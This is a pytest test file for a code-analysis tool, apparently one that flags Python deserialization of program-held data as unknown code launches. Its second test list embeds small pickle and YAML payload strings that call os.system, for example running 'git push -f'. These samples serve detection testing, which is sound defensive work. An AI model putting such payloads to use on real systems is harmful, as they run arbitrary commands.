"""Deserializers in Python programs: data from outside the program is data; data the program holds
(a literal, built from one, fetched from a literal address) is code rein cannot read."""

from __future__ import annotations

import pytest

from rein.steering.bash.launch import Launch, launches


def read(code: str) -> tuple[Launch, ...]:
    return launches("python", code, {})


@pytest.mark.parametrize(
    "code",
    [
        "import pickle\nprint(pickle.load(open('x.pkl', 'rb')))",
        "import pickle\nwith open('x.pkl', 'rb') as f:\n    data = pickle.load(f)",
        "import pickle\nd = open('x', 'rb').read()\nprint(pickle.loads(d))",
        "from pathlib import Path\nimport pickle\npickle.loads(Path('x.pkl').read_bytes())",
        "import pickle\nprint(pickle.loads(pickle.dumps({'a': 1})))",
        "import pickle, sys\npickle.load(sys.stdin.buffer)",
        "import pickle\npickle.Unpickler(open('x', 'rb')).load()",
        "import _pickle\n_pickle.load(open('x', 'rb'))",
        "import dill\ndill.load(open('x', 'rb'))",
        "import cloudpickle as cp\ncp.load(open('x', 'rb'))",
        "import torch\nm = torch.load('m.pt')",
        "import torch\nm = torch.load('m.pt', weights_only=False)",
        "import torch, io\nm = torch.load(io.BytesIO(b'abc'))",
        "import torch\nm = torch.load(f'{d}/m.pt', map_location='cpu')",
        "import joblib\nclf = joblib.load('model.joblib')",
        "import numpy as np\nnp.load('x.npy', allow_pickle=True)",
        "import numpy as np\nnp.load(io.BytesIO(b'x'))",
        "import pandas as pd\nprint(pd.read_pickle('df.pkl').head())",
        "import shelve\nprint(dict(shelve.open('db')))",
        "import yaml\nprint(yaml.load(open('c.yml'), Loader=yaml.Loader))",
        "import yaml\nprint(yaml.load('a: 1', Loader=yaml.SafeLoader))",
        "import yaml\nprint(yaml.safe_load('a: 1'))",
        "import yaml\nyaml.unsafe_load(open('c.yml'))",
        "import marshal\nmarshal.loads(b'x')",
        "import jsonpickle\njsonpickle.decode(open('x.json').read())",
    ],
)
def test_deserializing_data_from_outside_the_program_is_data(code: str) -> None:
    assert not [launch for launch in read(code) if launch.unknown], read(code)


@pytest.mark.parametrize(
    "code",
    [
        "import pickle\npickle.loads(b'cposix\\nsystem\\n(Vgit push -f\\ntR.')",
        "from pickle import loads as l\nl(b'cos\\nsystem\\n(S\"ls\"\\ntR.')",
        "import pickle\np = b'cos'\npickle.loads(p)",
        "import pickle, base64\npickle.loads(base64.b64decode('Y29z'))",
        "import pickle, io\npickle.load(io.BytesIO(b'cos'))",
        "import pickle, urllib.request as u\npickle.loads(u.urlopen('https://x/p').read())",
        "import dill\ndill.loads(bytes.fromhex('8004'))",
        "import torch, io\ntorch.load(io.BytesIO(b'x'), weights_only=False)",
        "import numpy as np, io\nnp.load(io.BytesIO(b'x'), allow_pickle=True)",
        "import pandas as pd, io\npd.read_pickle(io.BytesIO(b'x'))",
        "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [git push -f]')",
        "import yaml\nyaml.load('!!python/object/apply:os.system [x]', Loader=yaml.UnsafeLoader)",
        "import yaml\nyaml.load('!!python/object/apply:os.system [x]', Loader=L)",
        "import jsonpickle\njsonpickle.decode('{\"py/reduce\": []}')",
    ],
)
def test_deserializing_data_the_program_holds_is_unknown(code: str) -> None:
    found = [launch.unknown for launch in read(code) if launch.unknown]
    assert found and "deserializes data written in the program" in found[0], read(code)
